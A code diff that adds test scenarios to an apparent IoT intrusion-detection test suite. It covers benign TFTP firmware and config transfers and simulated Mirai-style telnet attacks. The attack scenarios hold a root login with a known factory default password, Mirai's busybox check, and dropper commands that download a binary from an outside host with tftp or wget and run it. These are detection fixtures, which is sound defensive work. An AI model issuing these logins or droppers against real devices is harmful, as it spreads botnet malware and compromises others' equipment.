@@ -133,3 +133,55 @@ IT += [
              [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", CORP_SRV)],
              clients=["sleep 1", _telnet_typed(CORP_SRV, "root", "xc3511", "exit")], tools=TELNET_TOOLS),
 ]
+
+FW_SERVER, OUTSIDE = "10.0.0.80", "198.51.100.20"   # the sanctioned firmware server (IOT_SERVICES); an internet host
+TFTPD = "in.tftpd -L -c -p -u tftp -s {tmp}/tftp -a {addr}:69"
+TFTP_TOOLS = ["tftpd-hpa", "tftp-hpa"]
+TFTP_FILES = [f"{side}/{name}" for side in ("tftp", "client") for name in ("camera-fw-5.7.bin=FWIMAGE\n", "ipcam.cfg=ntp=10.0.0.123\n")]
+
+
+def _tftp(name: str, what: str, server: str, client: str, command: str, expect: dict) -> Scenario:
+    # files and the root are world-writable: tftpd drops to the tftp user, and -c creates what a put sends
+    return Scenario(name, what, [f"{server}/8" if server.startswith("10.") else f"{server}/24"],
+                    [f"{client}/8" if client.startswith("10.") else f"{client}/24"],
+                    servers=["chmod -R a+rwX {tmp}/tftp && " + TFTPD.replace("{addr}", server)],
+                    clients=["sleep 1", f"cd {{tmp}}/client && tftp -m binary {server} -c {command}"],
+                    expect=expect, tools=TFTP_TOOLS, setup=TFTP_FILES)
+
+
+IT += [
+    _tftp("tftp-firmware-pull", "tftp-hpa on a camera fetches its firmware image from the firmware server (tftpd-hpa)",
+          FW_SERVER, DEVICE, "get camera-fw-5.7.bin", {"iot-tftp-from-device": 1, "iot-firmware-tftp-pull": 1}),
+    _tftp("tftp-config-pull", "the camera fetches its configuration file over TFTP", FW_SERVER, DEVICE, "get ipcam.cfg",
+          {"iot-tftp-from-device": 1}),
+    _tftp("tftp-firmware-push", "a workstation puts a firmware image onto a camera's tftpd", DEVICE, CORP_WS,
+          "put camera-fw-5.7.bin", {"iot-firmware-tftp-push": 1}),
+    _tftp("tftp-config-push", "a workstation puts a configuration file onto a camera's tftpd", DEVICE, CORP_WS,
+          "put ipcam.cfg", {}),
+    _tftp("tftp-corporate-pull", "a workstation fetches a firmware image from the firmware server (no IoT device)",
+          FW_SERVER, CORP_WS, "get camera-fw-5.7.bin", {}),
+]
+
+
+def _telnet_root(name: str, what: str, commands: list[str], expect: dict) -> Scenario:
+    # a Mirai-style session: log in with the factory default, then type the commands
+    return Scenario(name, what, [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", DEVICE)],
+                    clients=["sleep 1", _telnet_typed(DEVICE, "root", "xc3511", *commands, "exit")],
+                    expect={"iot-telnet-session": 1, "iot-telnet-default-credentials": 1, **expect}, tools=TELNET_TOOLS)
+
+
+IT += [
+    _telnet_root("telnet-busybox-tag", "telnet root login, then Mirai's busybox check (/bin/busybox ECCHI)",
+                 ["/bin/busybox ECCHI"], {"iot-botnet-busybox-tag": 1}),
+    _telnet_root("telnet-tftp-dropper", "telnet root login, then a TFTP dropper (tftp -g -r mips, chmod, run)",
+                 [f"cd /tmp; tftp -g -r mips {OUTSIDE}; chmod 777 mips; ./mips telnet.x86"], {"iot-botnet-tftp-dropper": 1}),
+    _telnet_root("telnet-wget-dropper", "telnet root login, then a wget dropper (wget http://..; chmod +x; run)",
+                 [f"cd /tmp; wget http://{OUTSIDE}/bins/mirai.arm7; chmod +x mirai.arm7; ./mirai.arm7"],
+                 {"iot-botnet-wget-dropper": 1}),
+    Scenario("telnet-admin-commands", "telnet login with the site password, then an administrator's busybox, TFTP "
+             "upload and wget commands", [f"{DEVICE}/24"], [f"{CORP_WS}/8"], servers=[TELNETD.replace("{addr}", DEVICE)],
+             clients=["sleep 1", _telnet_typed(DEVICE, "admin", "Site-Str0ng-7", "/bin/busybox ls /tmp",
+                                               f"tftp -p -l ipcam.log {FW_SERVER}",
+                                               f"wget http://{FW_SERVER}/fw/manifest.json", "exit")],
+             expect={"iot-telnet-session": 1}, tools=TELNET_TOOLS),
+]
